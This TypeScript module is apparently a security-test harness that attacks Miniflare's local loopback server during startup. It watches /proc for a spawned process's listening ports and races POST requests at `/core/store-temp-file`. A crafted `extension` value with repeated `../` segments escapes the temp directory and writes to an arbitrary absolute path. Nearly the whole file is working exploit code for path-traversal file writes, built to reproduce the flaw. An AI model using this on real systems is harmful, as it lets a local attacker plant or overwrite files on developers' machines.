import { type ChildProcess, spawn } from 'node:child_process'
import { request } from 'node:http'
import { setImmediate as nextTurn, setTimeout as sleep } from 'node:timers/promises'
import { listeningPorts } from './listening-ports'

/** What the attacker got from one port: how many answers of each status, or network errors. */
export interface PortTally {
  port: number
  /** When the port was first seen, in ms after the spawn. */
  seenAtMs: number
  /** Status (or `error`) → count. */
  outcomes: Record<string, number>
}

export interface RaceResult {
  ports: PortTally[]
  /** How long the start took, spawn to ready (or exit), in ms. */
  startMs: number
  exitCode: number | null | undefined
  stdout: string
  stderr: string
  child: ChildProcess
}

/**
 * The query Miniflare's `/core/store-temp-file` turns into a path: `extension` climbs out of its
 * temp directory (extra `..` stop at `/`) and names `target`, an absolute path.
 */
export function storeTempFilePath(target: string): string {
  const climb = '../'.repeat(16)
  return `/core/store-temp-file?prefix=x&extension=${encodeURIComponent(`x/${climb}${target.slice(1)}`)}`
}

function fire(port: number, path: string): Promise<string> {
  return new Promise((done) => {
    const req = request({ host: '127.0.0.1', port, path, method: 'POST', agent: false }, (res) => {
      res.resume()
      res.on('end', () => done(String(res.statusCode)))
      res.on('error', () => done(String(res.statusCode)))
    })
    req.setTimeout(3000, () => req.destroy(new Error('timeout')))
    req.on('error', () => done('error'))
    req.end('planted by the startup race')
  })
}

/** Requests in flight per port: enough to land several inside a window of a few hundred ms. */
const IN_FLIGHT = 4
/** How long the attack goes on after the start finished. */
const AFTER_READY_MS = 500

/**
 * Spawns `command` and attacks it as another local user's process would: polls `/proc` for
 * every TCP port the process listens on, and from the moment one appears sends it, as fast as it
 * answers, `POST` requests whose query makes Miniflare's loopback server write `target`.
 * Ends `AFTER_READY_MS` after `ready` matches stdout, or once the process exits.
 */
export async function raceStartup(
  command: string[],
  options: { cwd: string; target: string; ready?: RegExp; closeStdin?: boolean },
): Promise<RaceResult> {
  const started = Date.now()
  const child = spawn(command[0]!, command.slice(1), {
    cwd: options.cwd,
    stdio: ['pipe', 'pipe', 'pipe'],
    detached: true,
  })
  let stdout = ''
  let stderr = ''
  let startMs = 0
  let exitCode: number | null | undefined
  const finished = new Promise<void>((done) => {
    const end = () => {
      startMs ||= Date.now() - started
      done()
    }
    child.stdout!.on('data', (chunk: Buffer) => {
      stdout += chunk
      if (options.ready?.test(stdout)) end()
    })
    child.once('exit', (code) => {
      exitCode = code
      end()
    })
  })
  child.stderr!.on('data', (chunk: Buffer) => (stderr += chunk))
  // Open for servers (Vite closes one whose stdin ends), closed for a CLI command.
  if (options.closeStdin) child.stdin!.end()
  let stop = false
  void finished.then(() => sleep(AFTER_READY_MS)).then(() => (stop = true))
  const path = storeTempFilePath(options.target)
  const tallies = new Map<number, PortTally>()
  const attacks: Promise<void>[] = []
  const attack = async (tally: PortTally) => {
    while (!stop) {
      const outcome = await fire(tally.port, path)
      tally.outcomes[outcome] = (tally.outcomes[outcome] ?? 0) + 1
    }
  }
  while (!stop) {
    let ports: number[] = []
    try {
      ports = listeningPorts(child.pid!)
    } catch {
      // The process is gone.
    }
    for (const port of ports) {
      if (tallies.has(port)) continue
      const tally: PortTally = { port, seenAtMs: Date.now() - started, outcomes: {} }
      tallies.set(port, tally)
      for (let i = 0; i < IN_FLIGHT; i++) attacks.push(attack(tally))
    }
    await nextTurn()
  }
  await Promise.all(attacks)
  return { ports: [...tallies.values()], startMs, exitCode, stdout, stderr, child }
}

/** Ends a raced process and whatever it started (its process group), and waits for it. */
export async function endRace(race: RaceResult): Promise<void> {
  const { child } = race
  if (child.exitCode !== null || child.signalCode !== null) return
  const exited = new Promise((done) => child.once('exit', done))
  child.kill('SIGTERM')
  const killed = setTimeout(() => {
    try {
      process.kill(-child.pid!, 'SIGKILL')
    } catch {}
  }, 10_000)
  await exited
  clearTimeout(killed)
}

/** Answers that served the attacker: any 2xx. */
export function servedCount(race: RaceResult): number {
  let served = 0
  for (const { outcomes } of race.ports) {
    for (const [outcome, count] of Object.entries(outcomes)) {
      if (/^2\d\d$/.test(outcome)) served += count
    }
  }
  return served
}
